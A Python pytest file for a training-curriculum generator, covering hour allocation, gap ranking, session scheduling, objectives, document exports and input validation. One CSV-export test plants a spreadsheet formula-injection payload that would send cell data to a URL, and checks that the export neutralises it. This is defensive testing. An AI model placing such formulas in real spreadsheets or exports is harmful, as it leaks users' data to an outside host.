"""Curricula: minimum hours, ranking and left_out, schedule, objectives, exports, bad input."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import docx
import pytest

from advisor.catalogue import COMPETENCY_IDS
from advisor.curriculum import (
    MIN_HOURS_BY_LEVEL,
    SESSIONS_PER_DAY,
    build_curriculum,
    module_minimum,
    validate_request,
)
from advisor.curriculum.exports import export
from advisor.curriculum.hours import rank
from advisor.errors import BadInputError
from conftest import ROOT


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "advisor", "curriculum", *args],
        cwd=ROOT,
        env=dict(os.environ),
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture
def indonesian_hr(shipped_knowledge):
    return build_curriculum(shipped_knowledge, validate_request("hr-learning", "ID", 40))


# --- 1. hours ---------------------------------------------------------------------------------


@pytest.mark.parametrize("hours", [40, 7.3, 12, 100, 6, 250])
def test_hours_add_up_exactly_and_no_module_is_below_its_minimum(shipped_knowledge, hours: float) -> None:
    curriculum = build_curriculum(shipped_knowledge, validate_request(["policy-maker"], "VN", hours))
    assert round(sum(m.hours for m in curriculum.modules), 6) == hours
    for module in curriculum.modules:
        assert module.hours >= module_minimum(module) >= MIN_HOURS_BY_LEVEL[module.to_level]


def test_cli_json_for_40_hours_of_indonesian_hr_sums_to_40_with_left_out() -> None:
    result = _cli("--role", "hr-learning", "--country", "ID", "--hours", "40", "--format", "json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert sum(m["hours"] for m in data["modules"]) == 40
    for module in data["modules"]:
        assert module["hours"] >= MIN_HOURS_BY_LEVEL[module["to_level"]]
        assert module["hours"] >= module["minimum_hours"]
    assert data["left_out"], "40 hours cannot cover every gap of the role"
    assert all(g["hours_needed"] in MIN_HOURS_BY_LEVEL.values() or g["hours_needed"] > 0 for g in data["left_out"])
    assert data["hours_to_cover_all"] > 40
    assert {"day", "session", "hours", "modules"} <= set(data["schedule"][0])
    assert {g["competency"] for g in data["gaps"]} == set(COMPETENCY_IDS)


def test_cli_csv_hours_column_sums_to_the_total() -> None:
    result = _cli("--role", "hr-learning", "--country", "ID", "--hours", "40", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sum(float(r["hours"]) for r in rows if r["hours"]) == 40
    kinds = {r["row_type"] for r in rows}
    assert kinds == {"module", "resource", "left out"}
    assert all(r["hours"] == "" for r in rows if r["row_type"] != "module")
    module = next(r for r in rows if r["row_type"] == "module")
    assert module["objectives"]
    assert module["activities"]
    assert module["assessment"]
    assert module["sessions"]


def test_enough_hours_leave_nothing_out_and_too_few_leave_out_the_lowest_ranked(shipped_knowledge) -> None:
    short = build_curriculum(shipped_knowledge, validate_request("hr-learning", "ID", 40))
    full = build_curriculum(shipped_knowledge, validate_request("hr-learning", "ID", short.hours_to_cover_all))
    assert not full.left_out
    assert short.left_out
    # The needed hours follow the documented table: a gap 0 -> 3 needs 2 h (to level 2) + 4 h (level 3).
    needed = {g.competency: g.hours_needed for g in short.left_out}
    for gap in short.left_out:
        expected = MIN_HOURS_BY_LEVEL[min(gap.target, 2)] + (MIN_HOURS_BY_LEVEL[gap.target] if gap.target > 2 else 0)
        assert needed[gap.competency] == expected
    # The top-ranked gap is always taught, and every gap is either taught or left out.
    from advisor.curriculum.hours import Gap, stage_spans

    taught = {cid for m in short.modules for cid in m.competencies}
    with_gap = [g for g in short.gaps if g["gap"] > 0]
    top = rank(
        [Gap(g["competency"], g["current"], g["target"], 1, stage_spans(g["current"], g["target"])) for g in with_gap]
    )
    assert top[0].competency in taught
    assert taught | set(needed) == {g["competency"] for g in with_gap}
    assert not taught & set(needed)


def test_ranking_puts_bigger_gaps_then_higher_targets_first() -> None:
    from advisor.curriculum.hours import Gap, stage_spans

    gaps = [Gap("PD1", 1, 2, 1, stage_spans(1, 2)), Gap("DG1", 0, 3, 1, stage_spans(0, 3))]
    gaps.append(Gap("ME1", 1, 3, 2, stage_spans(1, 3)))
    assert [g.competency for g in rank(gaps)] == ["DG1", "ME1", "PD1"]


def test_too_few_hours_for_any_module_is_explained(shipped_knowledge) -> None:
    with pytest.raises(BadInputError, match="too little for any module"):
        build_curriculum(shipped_knowledge, validate_request("executive", "SG", 1))


def test_the_cohort_that_meets_every_target_is_told_so(shipped_knowledge) -> None:
    targets = {cid: t.level for cid, t in shipped_knowledge.roles["procurement"].targets.items()}
    with pytest.raises(BadInputError, match="nothing to teach"):
        build_curriculum(shipped_knowledge, validate_request("procurement", "PH", 20, current=targets))


# --- 2. schedule ------------------------------------------------------------------------------


@pytest.mark.parametrize("session_hours", [3.0, 2.0, 4.5])
def test_schedule_lays_modules_in_order_into_sessions(shipped_knowledge, session_hours: float) -> None:
    request = validate_request("policy-maker", "TH", 40, session_hours=session_hours)
    curriculum = build_curriculum(shipped_knowledge, request)
    schedule = curriculum.schedule
    assert round(sum(s.hours for s in schedule), 6) == 40
    assert all(s.hours <= session_hours + 1e-9 for s in schedule)
    assert all(1 <= s.session <= SESSIONS_PER_DAY for s in schedule)
    assert [(s.day, s.session) for s in schedule] == [(n // 2 + 1, n % 2 + 1) for n in range(len(schedule))]
    order = [p["module"] for s in schedule for p in s.parts]
    assert order == sorted(order)  # module n is finished before module n+1 starts
    for number, module in enumerate(curriculum.modules, start=1):
        assert round(sum(p["hours"] for s in schedule for p in s.parts if p["module"] == number), 6) == module.hours


def test_foundations_come_before_advanced_work(indonesian_hr) -> None:
    stages = [m.stage == "advanced practice" for m in indonesian_hr.modules]
    assert stages == sorted(stages)
    seen: dict[str, int] = {}
    for module in indonesian_hr.modules:  # no module needs a later one
        for cid in module.competencies:
            assert module.spans[cid][0] > seen.get(cid, 0)
            seen[cid] = module.spans[cid][1]


# --- 3. objectives, activities, assessment -----------------------------------------------------


def test_objectives_are_written_as_objectives_not_pasted_descriptors(shipped_knowledge, indonesian_hr) -> None:
    for module in indonesian_hr.modules:
        assert len(module.objectives) == len(module.competencies)
        for objective, cid in zip(module.objectives, module.competencies, strict=True):
            assert objective.startswith("By the end, participants can ")
            descriptor = shipped_knowledge.competencies[cid].levels[module.spans[cid][1]]
            assert descriptor not in objective
            assert "can with " not in objective
            assert " can can " not in objective


def test_short_slots_get_short_assessment_and_never_a_portfolio(shipped_knowledge) -> None:
    tight = build_curriculum(shipped_knowledge, validate_request("executive", "ID", 6))
    roomy = build_curriculum(shipped_knowledge, validate_request("executive", "ID", 400))
    tight_text = " ".join(a for m in tight.modules for a in m.assessment)
    assert "Portfolio" not in tight_text
    for module in tight.modules:
        if module.hours / len(module.competencies) < 2:
            assert all(a.startswith("Short quiz") for a in module.assessment)
    assert any(a.startswith("Portfolio") for m in roomy.modules for a in m.assessment)


def test_activities_practise_the_competencys_actions_at_the_level_taught(shipped_knowledge) -> None:
    from advisor.curriculum.objectives import competency_actions, objective

    actions = competency_actions(shipped_knowledge, "DG1", 2)
    assert actions == [a.text for a in shipped_knowledge.actions["DG1"] if a.level == 2]
    assert objective(shipped_knowledge, "PD6", 3).startswith("By the end, participants can lead the adaptation")
    curriculum = build_curriculum(shipped_knowledge, validate_request(["hr-learning"], "ID", hours=40))
    first = curriculum.modules[0]
    cid, (_, end) = next(iter(first.spans.items()))
    practised = [a.rstrip(".") for a in competency_actions(shipped_knowledge, cid, end)]
    assert any(action in first.activities[0] for action in practised)


# --- 4. exports -------------------------------------------------------------------------------


def _docx(curriculum, knowledge, tmp_path: Path) -> tuple[Path, docx.document.Document]:
    path = tmp_path / "c.docx"
    path.write_bytes(export(curriculum, knowledge, "docx"))
    return path, docx.Document(str(path))


def test_docx_has_cover_summary_schedule_and_rows_that_never_split(shipped_knowledge, indonesian_hr, tmp_path) -> None:
    from advisor.curriculum.exports.common import date_in_words

    _, document = _docx(indonesian_hr, shipped_knowledge, tmp_path)
    texts = [p.text for p in document.paragraphs]
    title = next(p for p in document.paragraphs if p.style.name == "Title")
    assert title.text == "Curriculum: HR and learning officer, Indonesia"
    cover = "\n".join(texts[: texts.index("Summary")])
    for expected in ("Cohort: HR and learning officer", "Country: Indonesia", "Language of delivery: English"):
        assert expected in cover
    assert "Total hours: 40 h" in cover
    assert f"Date: {date_in_words(indonesian_hr.generated_at)}" in cover
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert headings[:2] == ["Summary", "Schedule"]
    assert sum(h.startswith("Module ") for h in headings) == len(indonesian_hr.modules)
    summary = document.tables[0]
    assert [c.text for c in summary.rows[0].cells] == ["#", "Module", "Competencies", "Levels", "Hours"]
    assert summary.rows[-1].cells[-1].text == "40"
    schedule = next(t for t in document.tables if t.rows[0].cells[0].text == "Day")
    assert len(schedule.rows) == len(indonesian_hr.schedule) + 1
    for table in document.tables:
        for row in table.rows:
            assert row._tr.trPr is not None
            assert row._tr.trPr.find(docx.oxml.ns.qn("w:cantSplit")) is not None
    assert not "".join(p.text for p in document.sections[0].footer.paragraphs)
    last = document.paragraphs[-1]
    assert shipped_knowledge.version in last.text
    assert last.runs[0].font.size.pt <= 8
    links = [r.target_ref for r in document.part.rels.values() if r.reltype.endswith("/hyperlink")]
    assert links
    assert all(link.startswith("https://") for link in links)


@pytest.mark.skipif(not (shutil.which("soffice") and shutil.which("pdftotext")), reason="needs LibreOffice and poppler")
def test_docx_converted_by_libreoffice_has_cover_then_summary_then_schedule(
    shipped_knowledge, indonesian_hr, tmp_path: Path
) -> None:
    path, _ = _docx(indonesian_hr, shipped_knowledge, tmp_path)
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
        capture_output=True,
        check=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},  # a private LibreOffice profile
    )
    pages = [
        subprocess.run(
            ["pdftotext", "-f", str(n), "-l", str(n), str(tmp_path / "c.pdf"), "-"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for n in (1, 2, 3)
    ]
    assert "Curriculum: HR and learning" in pages[0]
    assert "Summary" not in pages[0]
    assert pages[1].lstrip().startswith("Summary")
    assert "Total" in pages[1]
    assert "needed" in pages[1]  # the left-out list ("Hours needed") stays on the summary page
    assert pages[2].lstrip().startswith("Schedule")


def test_markdown_and_json_carry_the_same_content(shipped_knowledge, indonesian_hr) -> None:
    markdown = export(indonesian_hr, shipped_knowledge, "md").decode()
    data = json.loads(export(indonesian_hr, shipped_knowledge, "json"))
    assert markdown.startswith(f"# {data['title']}")
    for heading in ("## Summary", "## Schedule", "## Gaps"):
        assert heading in markdown
    for module in data["modules"]:
        assert module["title"] in markdown
        assert all(o in markdown for o in module["objectives"])
    for session in data["schedule"]:
        assert f"| {session['day']} | {session['session']} | {session['hours']:g} |" in markdown
    for gap in data["left_out"]:
        assert f"({gap['competency']}) | 0 → {gap['target']} | {gap['hours_needed']:g} |" in markdown
    assert data["knowledge_version"] in markdown
    assert data["generated_at"] in markdown


def test_csv_export_neutralises_formula_cells(shipped_knowledge, indonesian_hr) -> None:
    # Titles and objectives come from the knowledge base and from edits: none may run in a spreadsheet.
    module = indonesian_hr.modules[0]
    module.title = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
    module.objectives = [f"-1+2 {o}" for o in module.objectives]
    text = export(indonesian_hr, shipped_knowledge, "csv").decode()
    first = next(csv.DictReader(io.StringIO(text)))
    assert first["module_title"] == "'" + module.title
    assert first["objectives"].startswith("'-1+2 ")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


@pytest.mark.parametrize("fmt", ["md", "csv", "json", "docx"])
def test_cli_writes_each_format(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"c.{fmt}"
    assessment = tmp_path / "cohort.yaml"
    assessment.write_text("DG1: 2\nME3: 1\n", encoding="utf-8")
    args = ["--role", "hr-learning", "--country", "TH", "--self-assessment", str(assessment), "--session-hours", "2"]
    result = _cli(*args, "--format", fmt, "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert out.stat().st_size > 1000


# --- 5. resources -----------------------------------------------------------------------------


def test_resources_are_available_in_the_country_and_news_links_are_marked(shipped_knowledge) -> None:
    from advisor.knowledge.provenance import news_domain

    curriculum = build_curriculum(shipped_knowledge, validate_request("hr-learning", "TH", 400))
    resources = [r for m in curriculum.modules for r in m.resources]
    for r in resources:
        countries = shipped_knowledge.resources[r.id].countries
        assert "TH" in countries or "*" in countries
        assert r.link_kind == ("news report" if news_domain(r.url) else "provider")
    markdown = export(curriculum, shipped_knowledge, "md").decode()
    for r in resources:
        if r.link_kind != "provider":
            assert f"[{r.title}]({r.url}) (" in markdown
            assert "link is a news report" in markdown


def test_mixed_cohort_in_indonesian_gets_indonesian_resources_first(shipped_knowledge) -> None:
    request = validate_request("policy-maker,executive", "ID", 60, language="id")
    curriculum = build_curriculum(shipped_knowledge, request)
    assert curriculum.roles == ["policy-maker", "executive"]
    for module in curriculum.modules:
        flags = ["id" in r.languages for r in module.resources]
        assert flags == sorted(flags, reverse=True)
    assert any("id" in r.languages for m in curriculum.modules for r in m.resources)


# --- bad input --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"roles": "astronaut"}, "unknown role 'astronaut'"),
        ({"roles": "hr-learning,astronaut"}, "unknown role 'astronaut'"),
        ({"roles": ""}, "give at least one role"),
        ({"country": "FR"}, "unknown country 'FR'"),
        ({"hours": 0}, "hours 0 is not accepted"),
        ({"hours": -5}, "hours -5 is not accepted"),
        ({"hours": 1000.5}, "at most 1000"),
        ({"session_hours": 0}, "session length 0 is not accepted"),
        ({"session_hours": -1}, "session length -1 is not accepted"),
        ({"level": 5}, "level 5 is not accepted"),
        ({"current": {"DG9": 1}}, "unknown competency 'DG9'"),
        ({"current": {"DG1": 7}}, "level 7 is not accepted"),
        ({"current": {"DG1": 0}}, "level 0 is not accepted"),
    ],
)
def test_bad_input_is_refused(kwargs: dict, message: str) -> None:
    params = {"roles": "hr-learning", "country": "TH", "hours": 40} | kwargs
    with pytest.raises(BadInputError, match=message):
        validate_request(**params)


@pytest.mark.parametrize(
    ("args", "assessment", "message"),
    [
        (["--hours", "0"], None, "hours 0 is not accepted"),
        (["--hours", "1001"], None, "hours 1001 is not accepted"),
        (["--session-hours", "0"], None, "session length 0 is not accepted"),
        (["--role", "hr-learning,astronaut"], None, "unknown role 'astronaut'"),
        ([], "XX1: 2\n", "unknown competency 'XX1'"),
        ([], "DG1: 5\n", "level 5 is not accepted"),
        ([], "DG1: 0\n", "level 0 is not accepted"),
    ],
)
def test_cli_bad_input_is_one_line_and_exit_2(tmp_path: Path, args: list[str], assessment: str | None, message: str):
    base = {"--role": "hr-learning", "--country": "TH"}
    for flag, value in zip(args[::2], args[1::2], strict=True):
        base[flag] = value
    argv = [item for pair in base.items() for item in pair]
    if assessment is not None:
        path = tmp_path / "cohort.yaml"
        path.write_text(assessment, encoding="utf-8")
        argv += ["--self-assessment", str(path)]
    result = _cli(*argv)
    assert result.returncode == 2
    assert result.stderr.strip().count("\n") == 0
    assert message in result.stderr
    assert "Traceback" not in result.stderr
